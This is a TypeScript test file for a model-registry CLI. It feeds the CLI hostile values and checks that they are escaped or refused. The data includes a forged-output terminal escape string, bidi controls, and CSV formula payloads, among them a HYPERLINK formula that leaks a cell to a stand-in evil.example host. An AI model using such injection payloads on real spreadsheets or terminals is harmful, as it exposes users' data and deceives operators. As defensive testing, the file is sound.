// Hostile registry values, as an attacker or a careless writer would put them in: what people
// read (tables, plain text, errors) cannot be forged, CSV cannot carry formulas, JSON stays
// exact, and every writer refuses endpoints that are not DNS names and unbounded text. Against
// real PostgreSQL, the CLI in-process and as `npm run registry`.
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import * as path from "node:path";
import { Client } from "pg";
import { registryEntryProvider, RegistryEntryInputs } from "../components/resources";
import { csvCell, formatTable } from "../scripts/lib/format";
import type { StackView } from "../scripts/lib/stack";
import { formatResults } from "../scripts/lib/verification";
import { EXIT, run } from "../scripts/registry";
import { driftOf, formatStatus, ModelStatus } from "../scripts/status";
import { run as verify } from "../scripts/verify";
import {
  migrate,
  getEntry,
  setStatus,
  endpointProblems,
  entryInputProblems,
  RegistryInputError,
} from "@vllm-fleet/registry";
import { parseCsv } from "./support/csv";
import { createTestDatabase, freePort } from "./support/services";

const ROOT = path.resolve(__dirname, "..");

/** The forged line: a newline, a fake success message, and ESC [2K (erase the line). */
const FORGED = "bad release\n✓ disabled model-x\x1b[2K";
/** C0 (but the line feed), DEL, C1 and the bidi controls: none may reach a terminal raw. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** The text has no raw control character and no line that passes for the forged success. */
function assertNotForged(text: string): void {
  assert.doesNotMatch(text, RAW_CONTROL, "a raw control character reached the output");
  for (const line of text.split("\n"))
    assert.doesNotMatch(line, /^\s*✓ disabled model-x/, `forged line: ${JSON.stringify(line)}`);
}

interface Result {
  code: number;
  out: string;
  err: string;
}

async function registry(env: Record<string, string>, ...args: string[]): Promise<Result> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await run(args, { env, out: (s) => out.push(s), err: (s) => err.push(s) });
  return { code, out: out.join("\n"), err: err.join("\n") };
}

describe("hostile registry values", () => {
  describe("endpoint rules (registry/src/types.ts)", () => {
    // The router connects to `http://${endpoint}` (router/src/upstream.ts), through the WHATWG
    // URL parser (https://url.spec.whatwg.org/#host-parsing): an accepted endpoint must reach
    // exactly the host and port that were validated.
    const reached = (e: string) => {
      const u = new URL(`http://${e}`);
      return `${u.hostname}:${u.port || "80"}`;
    };
    const label63 = "a".repeat(63);
    const host253 = [label63, label63, label63, "b".repeat(61)].join(".");

    it("accepts RFC 1123 host names up to 63 per label and 253 in all, and dotted-quad IPv4; the router reaches them as written", () => {
      for (const ok of [
        "llama-2-7b-development.system.svc.cluster.local:8000",
        "qwen2.5-7b-staging.llm.svc.cluster.local:8000",
        "moved:1",
        "3com.example:65535",
        `${label63}.svc:80`,
        `${host253}:8000`,
        "10.0.0.7:8000",
        "255.255.255.255:1",
      ]) {
        assert.deepEqual(endpointProblems(ok, "--endpoint"), [], ok);
        assert.equal(reached(ok), ok);
      }
    });

    it("refuses over-long hosts and labels (RFC 1035 2.3.4), bad labels (RFC 1123 2.1), bad ports, schemes and IPv6", () => {
      const refused: [string, RegExp][] = [
        [`${"a".repeat(64)}.svc:80`, /label 'a{64}' is 64 characters; use at most 63/],
        [`${host253}b:80`, /the host is 254 characters; use at most 253/],
        ["-a.svc:80", /label '-a' is invalid/],
        ["a-.svc:80", /label 'a-' is invalid/],
        ["a..b:80", /label '' is invalid/],
        ["a_b.svc:80", /label 'a_b' is invalid/],
        ["Model.svc:80", /label 'Model' is invalid/],
        ["a:0", /port '0' is not a number from 1 to 65535/],
        ["a:65536", /port '65536'/],
        ["a:080", /port '080'/],
        ["a:+80", /port '\+80'/],
        ["a", /use host:port without a scheme/],
        ["http://a:80", /use host:port without a scheme/],
        ["a:80/v1", /use host:port without a scheme/],
        ["[::1]:80", /no IPv6 literals/],
      ];
      for (const [bad, why] of refused) {
        const p = endpointProblems(bad, "--endpoint");
        assert.equal(p.length, 1, bad);
        assert.match(p[0], /^--endpoint '.*' is invalid: use host:port without a scheme/, bad);
        assert.match(p[0], why, bad);
      }
    });

    it("refuses hosts that URL parsers read as a different IPv4 address (WHATWG 'ends in a number' checker)", () => {
      // https://url.spec.whatwg.org/#ends-in-a-number-checker: a numeric or 0x last label makes
      // the host an IPv4 address, with octal (leading 0), hex and short forms.
      for (const [bad, becomes] of [
        ["0x7f.1:80", "127.0.0.1:80"],
        ["010.0.0.1:80", "8.0.0.1:80"],
        ["1.2.3:80", "1.2.0.3:80"],
        ["2130706433:80", "127.0.0.1:80"],
      ]) {
        assert.equal(reached(bad), becomes, "the rule guards against a real rewrite");
        assert.match(endpointProblems(bad)[0], /ends in a number/, bad);
      }
      assert.throws(() => new URL("http://svc.0x"), "a host URL parsers refuse");
      assert.match(endpointProblems("svc.0x:80")[0], /ends in a number/);
      assert.match(endpointProblems("256.1.1.1:80")[0], /ends in a number/);
    });

    it("echoes a value escaped and cut short, never whole", () => {
      const [p] = endpointProblems(`${"h".repeat(100 * 1024)}:80`, "--endpoint");
      assert.ok(p.length < 400, `message of ${p.length} characters`);
      assert.match(p, /^--endpoint 'h{64}…' is 102403 characters; use at most 259/);
      assert.match(endpointProblems("a\x1b[2K\n:1")[0], /'a\\x1b\[2K\\n:1'/);
    });

    it("every writer gets the rules: the Pulumi provider's check names the field", async () => {
      const inputs: RegistryEntryInputs = {
        connectionString: "postgresql://nobody@127.0.0.1:1/none",
        environment: "staging",
        modelName: "m",
        endpoint: `${"a".repeat(64)}.llm.svc.cluster.local:8000`,
        namespace: "llm\x1b[31m",
        servedModelName: "m",
        fallbacks: [],
        enabled: false,
        disabledReason: FORGED,
        managedBy: "staging",
      };
      const { failures } = await registryEntryProvider.check!(inputs, inputs);
      assert.deepEqual(failures!.map((f) => f.property).sort(), [
        "disabledReason",
        "endpoint",
        "namespace",
      ]);
      for (const f of failures!) assert.doesNotMatch(f.reason, RAW_CONTROL);
      assert.deepEqual(
        entryInputProblems({
          ...inputs,
          status: "disabled",
          disabledReason: "x".repeat(501),
        }).filter((p) => p.startsWith("disabledReason")),
        [`disabledReason '${"x".repeat(64)}…' is 501 characters; use at most 500`],
      );
    });
  });

  describe("output", () => {
    it("formatTable escapes every cell: a cell cannot add a row, colour or erase a line", () => {
      const table = formatTable(
        ["MODEL", "NOTE"],
        [
          ["m", FORGED],
          ["\u202egnp.exe", "tab\there\r\u0085\u2028"],
        ],
      );
      assertNotForged(table);
      const lines = table.split("\n");
      assert.equal(lines.length, 3);
      assert.equal(lines[1], "m              bad release\\n✓ disabled model-x\\x1b[2K");
      assert.equal(lines[2], "\\u202egnp.exe  tab\\there\\r\\x85\\u2028");
    });

    it("CSV neutralises formula cells (OWASP CSV Injection) and quotes per RFC 4180", () => {
      for (const formula of [
        '=HYPERLINK("http://evil.example","x")',
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\0=1",
      ]) {
        const cell = csvCell(formula);
        assert.equal(cell, `"'${formula.replace(/"/g, '""')}"`);
        assert.deepEqual(parseCsv(cell), [[`'${formula}`]]);
      }
      assert.equal(csvCell("llama-2-7b"), "llama-2-7b");
      assert.equal(csvCell("a,b"), '"a,b"');
      assert.equal(csvCell('say "hi"\n'), '"say ""hi""\n"');
    });
  });

  describe("through the CLI, with rows other writers left", () => {
    let url: string;
    let db: Client;
    let env: Record<string, string>;

    /** A row written straight with SQL (psql, an older client): no validation on the way in. */
    async function insert(row: Record<string, string>): Promise<void> {
      const cols = Object.keys(row);
      await db.query(
        `INSERT INTO model_registry_entries (${cols.join(", ")}) VALUES (${cols.map((_, i) => `$${i + 1}`).join(", ")})`,
        Object.values(row),
      );
    }

    before(async () => {
      url = await createTestDatabase("reg_hostile");
      db = new Client({ connectionString: url });
      await db.connect();
      await migrate(db);
      env = { DATABASE_URL: url };
      await insert({
        model_name: "model-x",
        deployment_environment: "development",
        endpoint: "model-x-development.llm.svc.cluster.local:8000",
        namespace: "llm\x1b[31m\u202eevil",
        served_model_name: "\u2066model-x\u2069\x1b]8;;http://evil.example\x07",
        status: "disabled",
        disabled_reason: FORGED,
      });
      await insert({
        model_name: "formula",
        deployment_environment: "development",
        endpoint: "formula-development.llm.svc.cluster.local:8000",
        namespace: "llm",
        served_model_name: '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
        status: "disabled",
        disabled_reason: "+1",
        revision: "-1",
        managed_by: "@SUM(A1:A9)",
      });
    });
    after(() => db.end());

    it("list and status print the hostile row escaped; JSON keeps it exact", async () => {
      const list = await registry(env, "list");
      assert.equal(list.code, EXIT.ok, list.err);
      assertNotForged(list.out);
      assert.match(list.out, /llm\\x1b\[31m\\u202eevil/);

      const status = await registry(
        env,
        "status",
        "--model-name",
        "model-x",
        "--environment",
        "development",
      );
      assert.equal(status.code, EXIT.ok, status.err);
      assertNotForged(status.out);
      assert.match(status.out, /^Status: disabled \(bad release\\n✓ disabled model-x\\x1b\[2K\)$/m);
      assert.match(
        status.out,
        /^Served model name: \\u2066model-x\\u2069\\x1b\]8;;http:\/\/evil\.example\\x07$/m,
      );

      const json = JSON.parse((await registry(env, "list", "--format", "json")).out);
      const row = json.find((e: { modelName: string }) => e.modelName === "model-x");
      assert.equal(row.disabledReason, FORGED);
      assert.equal(row.namespace, "llm\x1b[31m\u202eevil");
    });

    it("list --format csv neutralises =HYPERLINK, +1, -1 and @SUM and stays well-formed RFC 4180", async () => {
      const csv = await registry(env, "list", "--format", "csv");
      assert.equal(csv.code, EXIT.ok, csv.err);
      const [header, ...rows] = parseCsv(csv.out);
      const row = Object.fromEntries(
        header.map((h, i) => [h, rows.find((r) => r[1] === "formula")![i]]),
      );
      assert.equal(row.served_model_name, `'=HYPERLINK("http://evil.example/?leak="&A1,"details")`);
      assert.equal(row.disabled_reason, "'+1");
      assert.equal(row.revision, "'-1");
      assert.equal(row.managed_by, "'@SUM(A1:A9)");
      assert.equal(row.model_name, "formula");
      // Every cell of every row: none starts with a formula trigger once read back.
      for (const r of rows) for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
      // The multi-line reason survives as one quoted field, exactly.
      assert.equal(
        rows.find((r) => r[1] === "model-x")![header.indexOf("disabled_reason")],
        FORGED,
      );
    });

    it("disable refuses a forged reason and an over-long one with exit 2, naming --reason", async () => {
      const disable = (reason: string, ...extra: string[]) =>
        registry(
          env,
          "disable",
          "--model-name",
          "formula",
          "--environment",
          "development",
          "--reason",
          reason,
          ...extra,
        );
      const forged = await disable(FORGED);
      assert.equal(forged.code, EXIT.usage);
      assertNotForged(forged.err);
      assert.match(
        forged.err,
        /^error: --reason 'bad release\\n✓ disabled model-x\\x1b\[2K' contains control/,
      );
      const long = await disable("x".repeat(501));
      assert.equal(long.code, EXIT.usage);
      assert.match(long.err, /--reason 'x{64}…' is 501 characters; use at most 500/);
      const fits = await disable("x".repeat(500), "--dry-run");
      assert.equal(fits.code, EXIT.ok, fits.err);
      assert.equal(
        (await getEntry(db, "development", "formula"))!.disabledReason,
        "+1",
        "nothing written",
      );
      // The same bound for every writer, not only the CLI's flag.
      await assert.rejects(
        setStatus(db, "development", "formula", "disabled", "x".repeat(501)),
        (e: unknown) =>
          e instanceof RegistryInputError && /reason 'x{64}…' is 501 characters/.test(e.message),
      );
    });

    it("register refuses a 64-character label and a 100 KB host with exit 2, naming --endpoint", async () => {
      const label = await registry(
        env,
        "register",
        "--model-name",
        "long",
        "--environment",
        "development",
        "--endpoint",
        `${"a".repeat(64)}.llm.svc.cluster.local:8000`,
      );
      assert.equal(label.code, EXIT.usage);
      assert.match(
        label.err,
        /^error: --endpoint '.*' is invalid: .*label 'a{64}' is 64 characters; use at most 63/,
      );
      const namespace = await registry(
        env,
        "register",
        "--model-name",
        "long",
        "--environment",
        "development",
        "--endpoint",
        "long.llm.svc.cluster.local:8000",
        "--namespace",
        "llm\nevil",
      );
      assert.equal(namespace.code, EXIT.usage);
      assert.match(namespace.err, /^error: --namespace 'llm\\nevil' is invalid/);

      // As a real process: the exit code, and a message that does not repeat 100 KB.
      const huge = await new Promise<Result>((resolve) =>
        execFile(
          "npm",
          [
            "run",
            "--silent",
            "registry",
            "--",
            "register",
            "--model-name",
            "long",
            "--environment",
            "development",
            "--endpoint",
            `${"h".repeat(100 * 1024)}:8000`,
          ],
          {
            cwd: ROOT,
            env: {
              PATH: process.env.PATH ?? "",
              HOME: process.env.HOME ?? "/tmp",
              DATABASE_URL: url,
            },
            timeout: 60000,
          },
          (e, stdout, stderr) =>
            resolve({
              code: e ? ((e as { code?: number }).code ?? 1) : 0,
              out: stdout,
              err: stderr,
            }),
        ),
      );
      assert.equal(huge.code, EXIT.usage, huge.err.slice(0, 500));
      assert.match(huge.err, /^error: --endpoint 'h{64}…' is 102405 characters; use at most 259/);
      assert.ok(huge.err.length < 1000, `stderr of ${huge.err.length} characters`);
      assert.equal(await getEntry(db, "development", "long"), undefined);
    });

    it("commander's own errors echo typed values escaped", async () => {
      const format = await registry(env, "list", "--format", "\x1b[2K\u202excel");
      assert.equal(format.code, EXIT.usage);
      assertNotForged(format.err);
      assert.match(format.err, /argument '\\x1b\[2K\\u202excel' is invalid/);
      const unknown = await registry(env, "list", "--\n✓ disabled model-x");
      assert.equal(unknown.code, EXIT.usage);
      assertNotForged(unknown.err);
    });

    it("verify prints the hostile reason inside its table cell", async () => {
      const out: string[] = [];
      const err: string[] = [];
      const code = await verify(
        ["--environment", "development", "--router-url", `http://127.0.0.1:${await freePort()}`],
        { env, out: (s) => out.push(s), err: (s) => err.push(s) },
      );
      assert.equal(code, EXIT.unverified, "the router is not there: checks fail");
      const text = out.join("\n");
      assertNotForged(text);
      assert.match(
        text,
        /^registry +model-x +PASS +disabled as configured \(bad release\\n✓ disabled model-x\\x1b\[2K\)$/m,
      );
      assert.match(
        formatResults([{ check: "router", target: "\x1b[2K", ok: true, detail: "" }]),
        /\\x1b\[2K/,
      );
    });

    it("status prints drift quoting the hostile reason on one line", async () => {
      const row = (await getEntry(db, "development", "model-x"))!;
      const sources = {
        model: "model-x",
        config: { enabled: true, endpoint: row.endpoint, revision: "r", replicas: 1 },
        row,
        cache: { state: "absent" as const },
        pods: { unreachable: "no kubectl\n✓ disabled model-x" },
      };
      const model: ModelStatus = { ...sources, drift: driftOf(sources) };
      const view = {
        name: "development",
        spec: { environment: "development", namespace: "llm" },
      } as StackView;
      const text = formatStatus(view, {
        models: [model],
        orphans: [{ ...row, status: "ready", managedBy: "\x1b[2K" }],
      });
      assertNotForged(text);
      assert.match(
        text,
        /^ {2}model-x: row disabled \(bad release\\n✓ disabled model-x\\x1b\[2K\) but the config enables the model$/m,
      );
      assert.match(
        text,
        /^cluster: unreachable \(no kubectl\\n✓ disabled model-x\); pods not checked$/m,
      );
    });
  });
});
